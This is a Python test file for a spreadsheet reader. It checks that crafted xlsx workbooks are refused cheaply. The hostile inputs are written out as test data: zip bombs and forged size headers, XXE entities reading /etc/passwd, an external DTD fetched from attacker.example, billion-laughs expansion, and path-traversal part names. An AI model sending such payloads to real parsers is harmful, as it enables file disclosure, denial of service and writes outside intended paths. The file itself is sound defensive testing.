"""Files made to harm: each is refused in one calm sentence, in little time and memory."""

import random
import struct
import time
import tracemalloc
import zlib
from contextlib import suppress
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_STORED, ZipFile

import pytest

from catalogue.products.sheets import archive
from catalogue.products.sheets.excel import read_xlsx
from catalogue.products.sheets.findings import SheetRefused
from catalogue.products.sheets.reading import read
from tests.sheets import planned, sheet_xml, with_parts, workbook_of

SHEET = "xl/worksheets/sheet1.xml"
GOOD = workbook_of([["ref", "name"], ["A-1", "bowl"]])
MB = 1024 * 1024


def refused(data: bytes, *, megabytes: int = 60) -> SheetRefused:
    """The refusal of a workbook; fails where it takes long or much memory."""
    tracemalloc.start()
    started = time.process_time()
    with pytest.raises(SheetRefused) as refusal:
        read_xlsx(data, "a.xlsx")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert time.process_time() - started < 60
    assert peak < megabytes * MB
    assert refusal.value.text("lo")
    return refusal.value


def why(refusal: SheetRefused) -> str:
    """The reason inside "was not opened, because ..."."""
    assert refusal.code == "unsafe"
    return refusal.finding.about["what"].en


def test_a_bomb_is_not_unpacked():
    zeros = b"\x00" * (120 * MB)
    data = with_parts(GOOD, {"xl/bomb.xml": zeros})
    del zeros
    assert len(data) < MB
    assert "too large" in why(refused(data))


def test_a_small_part_packed_a_thousandfold_is_not_unpacked():
    data = with_parts(GOOD, {"xl/sharedStrings.xml": b" " * (8 * MB)})
    assert "too large" in why(refused(data))


def test_twenty_thousand_parts_are_not_listed():
    data = with_parts(GOOD, {f"xl/media/{number}.png": b"" for number in range(20_000)})
    assert "too many parts" in why(refused(data))


@pytest.mark.parametrize("claimed", [10, 1024 * MB])
def test_a_part_that_lies_about_its_size_is_refused(claimed):
    """The directory claims ten bytes, or a gigabyte, of what are fifty megabytes."""
    data = _claiming(with_parts(GOOD, {SHEET: b"<worksheet>" + b" " * (50 * MB)}), SHEET, claimed)
    assert why(refused(data)) in {archive.word("lies").en, archive.word("unpacks").en}


def test_a_part_longer_than_it_says_costs_no_more_than_it_says():
    """`zipfile` would inflate all 300 megabytes before it looked at the size."""
    bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(bomb.compress(b"\x00" * MB) for _each in range(300)) + bomb.flush()
    data = _with_raw(GOOD, SHEET, packed, claimed=100 * 1024)
    assert "true size" in why(refused(data, megabytes=20))


@pytest.mark.parametrize(
    "definition",
    [
        pytest.param('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', id="outer entity"),
        pytest.param('<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>', id="billion laughs"),
        pytest.param('<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">', id="outer definition"),
        pytest.param("<!DOCTYPE x>", id="any definition"),
    ],
)
@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_definitions_are_refused_in_every_part(part, definition, encoding):
    with ZipFile(BytesIO(GOOD)) as book:
        xml = book.read(part).decode().partition("?>")[2] or book.read(part).decode()
    xml = f'<?xml version="1.0" encoding="{encoding}"?>{definition}{xml.replace("bowl", "&a;")}'
    assert "XML definitions" in why(refused(with_parts(GOOD, {part: xml.encode(encoding)})))


def test_a_definition_hidden_in_another_alphabet_does_no_harm():
    """In an encoding where "<!DOCTYPE" has other bytes, the parser itself refuses entities."""
    definition = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    xml = sheet_xml(GOOD).replace("bowl", "&a;")
    data = with_parts(GOOD, {SHEET: ('<?xml version="1.0" encoding="utf-7"?>' + definition + xml).encode("utf-7")})
    with pytest.raises(SheetRefused):
        read_xlsx(data, "a.xlsx")


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "xl\\..\\..\\x", "C:/x", "xl/../../x"], ids=str)
def test_names_that_lead_elsewhere_are_refused(name):
    assert "names of its parts" in why(refused(with_parts(GOOD, {name: b"x"})))


def test_a_part_that_comes_twice_is_refused():
    written = BytesIO(GOOD)
    with ZipFile(written, "a") as book, pytest.warns(UserWarning, match="Duplicate"):
        book.writestr(SHEET, "<worksheet/>")
    assert "twice" in why(refused(written.getvalue()))


def test_other_ways_of_packing_are_refused():
    written = BytesIO(GOOD)
    with ZipFile(written, "a", ZIP_BZIP2) as book:
        book.writestr("xl/other.xml", "<x/>")
    assert "packed in a way" in why(refused(written.getvalue()))


@pytest.mark.parametrize("claim", ["A1:XFD1048576", "A1:A1", "B2:XFD3"])
def test_the_size_that_a_sheet_claims_changes_nothing(claim):
    data = with_parts(GOOD, {SHEET: sheet_xml(GOOD).replace('"A1:B2"', f'"{claim}"').encode()})
    started = time.process_time()
    lines = read_xlsx(data, "a.xlsx").sheets[0].lines
    assert [[cell.text for cell in line.cells] for line in lines] == [["ref", "name"], ["A-1", "bowl"]]
    assert time.process_time() - started < 60


@pytest.mark.parametrize("claim", ["ZZZ9:A1", "nonsense", ""])
def test_a_size_that_is_none_is_refused_or_passed_over(claim):
    data = with_parts(GOOD, {SHEET: sheet_xml(GOOD).replace('"A1:B2"', f'"{claim}"').encode()})
    with suppress(SheetRefused):
        assert len(read_xlsx(data, "a.xlsx").sheets[0].lines) == 2


def test_a_row_far_below_costs_no_rows_between():
    book = read_xlsx(
        with_parts(
            GOOD,
            {
                SHEET: sheet_xml(GOOD)
                .replace('"2"', '"1048576"')
                .replace("A2", "A1048576")
                .replace("B2", "B1048576")
                .encode()
            },
        ),
        "a.xlsx",
    )
    assert [line.number for line in book.sheets[0].lines] == [1, 1_048_576]


def test_a_row_beyond_the_last_of_excel_is_refused():
    far = (
        sheet_xml(GOOD).replace('r="2"', 'r="99999999999"').replace("A2", "A99999999999").replace("B2", "B99999999999")
    )
    assert refused(with_parts(GOOD, {SHEET: far.encode()})).code == "not-excel"


def test_sheets_of_nothing_but_width_are_refused():
    row = '<row r="{0}"><c r="A{0}" t="str"><v>x</v></c><c r="XFD{0}"/></row>'
    rows = "".join(row.format(number) for number in range(1, 20_000))
    xml = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    assert refused(with_parts(GOOD, {SHEET: xml.encode()}), megabytes=200).code == "many-cells"


def test_one_huge_cell_is_read_and_said_to_be_too_long(tmp_path):
    data = with_parts(GOOD, {SHEET: sheet_xml(GOOD).replace("bowl", _noise(10 * MB)).encode()})
    row = planned(tmp_path, data, name="a.xlsx").rows[0]
    assert [finding.code for finding in row.findings if finding.level >= 2] == ["too-long"]
    assert all(len(finding.text("en")) < 500 for finding in row.findings)


@pytest.mark.parametrize("without", [SHEET, "xl/workbook.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"])
def test_missing_parts_are_refused(tmp_path, without):
    (tmp_path / "a.xlsx").write_bytes(with_parts(GOOD, {}, without=[without]))
    with pytest.raises(SheetRefused) as refusal:
        read(tmp_path / "a.xlsx")
    assert refusal.value.code in {"not-excel", "empty"}


@pytest.mark.parametrize(
    "break_it",
    [
        lambda _xml: "",
        lambda _xml: "<",
        lambda xml: xml[:-30],
        lambda xml: xml.replace('r="2"', 'r="x"'),
        lambda xml: xml.replace("A2", "ZZZZZZZZZ2"),
        lambda xml: xml.replace('"inlineStr"><is><t>A-1</t></is>', '"s"><v>7</v>'),
    ],
)
def test_broken_xml_is_refused(break_it):
    with pytest.raises(SheetRefused, match="not-excel"):
        read_xlsx(with_parts(GOOD, {SHEET: break_it(sheet_xml(GOOD)).encode()}), "a.xlsx")


def test_a_workbook_with_a_password_is_told_so():
    marked = bytearray(GOOD)
    for start in _all(GOOD, b"PK\x01\x02"):
        marked[start + 8] |= 1
    assert refused(bytes(marked)).code == "old-excel"


def _all(data: bytes, needle: bytes) -> list[int]:
    places, at = [], data.find(needle)
    while at >= 0:
        places.append(at)
        at = data.find(needle, at + 1)
    return places


def _claiming(data: bytes, part: str, size: int) -> bytes:
    """The archive with another unpacked size for a part, in its directory and before the part itself."""
    changed = bytearray(data)
    for marker, size_at, name_at in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        for start in _all(data, marker):
            if data[start + name_at :].startswith(part.encode()):
                changed[start + size_at : start + size_at + 4] = struct.pack("<I", size)
    return bytes(changed)


def _with_raw(data: bytes, part: str, packed: bytes, *, claimed: int) -> bytes:
    """The archive with a part that is already packed, whatever it claims to unpack to."""
    written = BytesIO()
    with ZipFile(BytesIO(data)) as old, ZipFile(written, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != part:
                new.writestr(name, old.read(name))
        new.writestr(part, packed, compress_type=ZIP_STORED)
        entry = new.getinfo(part)
        entry.compress_type = ZIP_DEFLATED
        entry.file_size = claimed
    changed = bytearray(written.getvalue())
    struct.pack_into("<H", changed, entry.header_offset + 8, ZIP_DEFLATED)
    return bytes(changed)


def _noise(length: int) -> str:
    """Text that packs badly, so that it is not refused as a bomb."""
    return random.Random(1).randbytes(length // 2).hex()
